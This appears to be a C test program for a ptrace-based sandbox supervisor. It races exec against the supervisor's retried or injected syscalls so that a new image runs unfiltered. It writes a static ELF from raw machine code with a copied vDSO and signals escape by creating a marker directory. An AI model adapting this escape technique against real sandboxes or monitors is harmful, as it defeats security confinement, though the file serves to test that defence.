/* SPDX-License-Identifier: ISC */
/*
 * escape_parkexec MARK [TRIES [conn]] (attacks park-exec and conn-exec,
 * blind rounds 23b and 24): in a
 * child per try, the leader blocks in connect() to a full listener of
 * its own (the supervisor parks it and retries it later) while another
 * thread execs this program; the new image takes the leader's pid.  A
 * retry sent to that pid let the image run past its pinning stop.  The
 * new image ("probe") looks for the late-code band's guard page, which
 * every pinned image has: without it, it makes MARK.  Stopped: no try's
 * image runs unpinned (exit 0 with no MARK).
 * Every other try execs instead a static image written at MARK.img
 * (blind round 24): its code (msync of the guard page; ENOMEM: mkdir
 * MARK) and, at this process's vDSO address, a copy of the vDSO, so that
 * a call the supervisor injects at the old vDSO's `syscall` runs instead
 * of faulting: the retry's PTRACE_CONT reached the new image at its exec
 * stop, which then ran with no filter of its own.
 * conn (attack conn-exec, round 24): the leader connects over and over
 * to a listener with room (each connect remade by the supervisor, by
 * calls injected in the leader) while the other thread execs the static
 * image: the remake's PTRACE_SYSCALL resumed the new image from its exec
 * stop (13 in 100 tries).
 */
#include <elf.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/auxv.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static char self[4096], img[4096], *mark;

/* msync(guard page) == 0, or mkdir(MARK, 0755); exit(0).  MARK follows. */
static const unsigned char probe_code[] = {
	0xb8, 0x1a, 0x00, 0x00, 0x00,			/* mov $26, %eax */
	0x48, 0xbf, 0x00, 0xf0, 0xff, 0xff, 0xff, 0x10, 0x00, 0x00,
							/* movabs guard, %rdi */
	0xbe, 0x00, 0x10, 0x00, 0x00,			/* mov $4096, %esi */
	0x31, 0xd2,					/* xor %edx, %edx */
	0x0f, 0x05,					/* syscall */
	0x48, 0x85, 0xc0,				/* test %rax, %rax */
	0x74, 0x13,					/* je exit */
	0xb8, 0x53, 0x00, 0x00, 0x00,			/* mov $83, %eax */
	0x48, 0x8d, 0x3d, 0x10, 0x00, 0x00, 0x00,	/* lea mark, %rdi */
	0xbe, 0xed, 0x01, 0x00, 0x00,			/* mov $0755, %esi */
	0x0f, 0x05,					/* syscall */
	0xb8, 0x3c, 0x00, 0x00, 0x00,			/* exit: mov $60 */
	0x31, 0xff,					/* xor %edi, %edi */
	0x0f, 0x05,					/* syscall */
};

/* The static image: code at 0x401000, the vDSO's bytes where ours is. */
static int
write_image(void)
{
	uintptr_t vdso = getauxval(AT_SYSINFO_EHDR), start, end;
	size_t vlen = 0, code = 0x1000, at = 0x3000, len;
	char line[512];
	unsigned char *b;
	FILE *m = fopen("/proc/self/maps", "re");
	int fd;

	while (m != NULL && fgets(line, sizeof(line), m) != NULL)
		if (sscanf(line, "%lx-%lx", &start, &end) == 2 &&
		    start == vdso && strstr(line, "[vdso]") != NULL)
			vlen = end - start;
	if (m != NULL)
		fclose(m);
	if (vlen == 0 || (b = calloc(1, at + vlen)) == NULL)
		return -1;
	Elf64_Ehdr *e = (Elf64_Ehdr *)b;
	Elf64_Phdr *p = (Elf64_Phdr *)(b + sizeof(*e));
	memcpy(e->e_ident, ELFMAG, SELFMAG);
	e->e_ident[EI_CLASS] = ELFCLASS64;
	e->e_ident[EI_DATA] = ELFDATA2LSB;
	e->e_ident[EI_VERSION] = EV_CURRENT;
	e->e_type = ET_EXEC;
	e->e_machine = EM_X86_64;
	e->e_version = EV_CURRENT;
	e->e_entry = 0x400000 + code;
	e->e_phoff = sizeof(*e);
	e->e_ehsize = sizeof(*e);
	e->e_phentsize = sizeof(*p);
	e->e_phnum = 3;
	/* the code's segment starts at the entry (its analysis too) */
	len = sizeof(probe_code) + strlen(mark) + 1;
	p[0] = (Elf64_Phdr){ PT_LOAD, PF_R | PF_X, code, 0x400000 + code,
	    0x400000 + code, len, len, 0x1000 };
	p[1] = (Elf64_Phdr){ PT_LOAD, PF_R | PF_X, at, vdso, vdso, vlen, vlen,
	    0x1000 };
	p[2] = (Elf64_Phdr){ PT_GNU_STACK, PF_R | PF_W, 0, 0, 0, 0, 0, 16 };
	memcpy(b + code, probe_code, sizeof(probe_code));
	memcpy(b + code + sizeof(probe_code), mark, strlen(mark) + 1);
	memcpy(b + at, (void *)vdso, vlen);
	snprintf(img, sizeof(img), "%s.img", mark);
	unlink(img);
	if ((fd = open(img, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755)) ==
	    -1 || write(fd, b, at + vlen) != (ssize_t)(at + vlen)) {
		free(b);
		return -1;
	}
	close(fd);
	free(b);
	return 0;
}

static int
band_guard(void)
{
	char line[512];
	int found = 0;
	FILE *f = fopen("/proc/self/maps", "re");

	while (f != NULL && !found && fgets(line, sizeof(line), f) != NULL)
		found = strncmp(line, "10fffffff000-", 13) == 0;
	if (f != NULL)
		fclose(f);
	return found;
}

static void *
exec_soon(void *a)
{
	uintptr_t v = (uintptr_t)a;
	char *argv[] = { self, mark, "probe", NULL }, *iargv[] = { img, NULL };

	usleep((useconds_t)(v >> 1));
	if (v & 1)
		execv(img, iargv);
	else
		execv(self, argv);
	_exit(5);
}

static void
one_try(uintptr_t delay, bool conn)
{
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	int l, c;
	pthread_t t;

	snprintf(sa.sun_path, sizeof(sa.sun_path), "%s.sock", mark);
	unlink(sa.sun_path);
	if ((l = socket(AF_UNIX, SOCK_STREAM, 0)) == -1 ||
	    bind(l, (struct sockaddr *)&sa, sizeof(sa)) == -1 ||
	    listen(l, conn ? 4096 : 0) == -1)
		_exit(2);
	if (conn) {
		pthread_create(&t, NULL, exec_soon, (void *)(delay | 1));
		for (int i = 0; i < 100000; i++) {
			c = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
			(void)connect(c, (struct sockaddr *)&sa, sizeof(sa));
			close(c);
			while (i % 64 == 63 && (c = accept4(l, NULL, NULL,
			    SOCK_NONBLOCK)) >= 0)
				close(c);
		}
		_exit(6);
	}
	/* the queue full: the next connect blocks */
	for (int i = 0; i < 2; i++) {
		c = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
		(void)connect(c, (struct sockaddr *)&sa, sizeof(sa));
	}
	pthread_create(&t, NULL, exec_soon, (void *)(uintptr_t)delay);
	c = socket(AF_UNIX, SOCK_STREAM, 0);
	(void)connect(c, (struct sockaddr *)&sa, sizeof(sa));
	_exit(6);
}

int
main(int argc, char **argv)
{
	int tries = argc > 2 ? atoi(argv[2]) : 60, st;
	bool conn = argc > 3 && strcmp(argv[3], "conn") == 0;
	ssize_t n;

	if (argc < 2)
		return 2;
	mark = argv[1];
	if (argc > 2 && strcmp(argv[2], "probe") == 0)
		return band_guard() ? 0 : (mkdir(mark, 0755) == 0 ? 0 : 1);
	if ((n = readlink("/proc/self/exe", self, sizeof(self) - 1)) <= 0)
		return 2;
	self[n] = '\0';
	if (write_image() == -1)
		return 2;
	for (int i = 0; i < tries; i++) {
		pid_t p = fork();
		/* the park's retries come at 1, 2, 4, 8 ms... */
		if (p == 0 && conn)
			one_try((uintptr_t)(500 + (i * 7919) % 19500) << 1, true);
		else if (p == 0)
			one_try((uintptr_t)(1000 + (i * 7919) % 5000) << 1 |
			    (uintptr_t)(i % 3 != 0), false);
		waitpid(p, &st, 0);
		struct stat s;
		if (stat(mark, &s) == 0) {
			printf("an image ran unpinned at try %d\n", i + 1);
			return 0;
		}
	}
	printf("every image pinned (%d tries)\n", tries);
	return 3;
}
